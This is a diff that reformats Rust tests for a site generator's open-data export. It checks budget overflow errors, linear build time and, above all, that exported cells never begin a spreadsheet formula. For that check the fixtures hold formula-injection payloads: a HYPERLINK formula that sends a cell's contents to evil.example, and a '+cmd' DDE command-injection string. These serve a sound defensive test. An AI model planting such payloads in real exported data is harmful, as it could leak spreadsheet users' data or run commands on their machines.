@@ -20,10 +20,17 @@ fn open_data_cells_never_start_a_formula() {
     let programs = site.path().join("content/programs");
     std::fs::write(
         programs.join("formula.md"),
-        programme("=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Klik\")", ""),
+        programme(
+            "=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Klik\")",
+            "",
+        ),
     )
     .unwrap();
-    std::fs::write(programs.join("plus.md"), programme("+cmd|' /C calc'!A0", "")).unwrap();
+    std::fs::write(
+        programs.join("plus.md"),
+        programme("+cmd|' /C calc'!A0", ""),
+    )
+    .unwrap();
     std::fs::write(programs.join("@SUM(1+1).md"), programme("At", "")).unwrap();
     std::fs::write(programs.join("-2+3.md"), programme("Minus", "")).unwrap();
     let out = site.path().join("public");
@@ -76,7 +83,10 @@ fn budgets_too_large_to_count_are_an_error_naming_the_file() {
     assert_eq!(o.status.code(), Some(1));
     let err = stderr(&o);
     assert!(err.contains("content/programs/besar.md"), "{err}");
-    assert!(err.contains("add up to more than terbit can count"), "{err}");
+    assert!(
+        err.contains("add up to more than terbit can count"),
+        "{err}"
+    );
     // Each programme countable, the plan's sum not.
     std::fs::write(
         site.path().join("content/programs/besar.md"),
@@ -90,7 +100,11 @@ fn budgets_too_large_to_count_are_an_error_naming_the_file() {
     .unwrap();
     let o = build(site.path(), &out, &[]);
     assert_eq!(o.status.code(), Some(1));
-    assert!(stderr(&o).contains("the plan's budgets add up to more"), "{}", stderr(&o));
+    assert!(
+        stderr(&o).contains("the plan's budgets add up to more"),
+        "{}",
+        stderr(&o)
+    );
     assert!(!out.exists());
 }
 
@@ -106,7 +120,12 @@ fn many_headings_and_budget_rows_build_in_linear_time() {
     )
     .unwrap();
     let rows: String = (0..20_000)
-        .map(|i| format!("[[budget]]\nyear = {}\namount = 1\nsource = \"APBD\"\n\n", 2025 + i % 3))
+        .map(|i| {
+            format!(
+                "[[budget]]\nyear = {}\namount = 1\nsource = \"APBD\"\n\n",
+                2025 + i % 3
+            )
+        })
         .collect();
     std::fs::write(
         site.path().join("content/programs/banyak.md"),
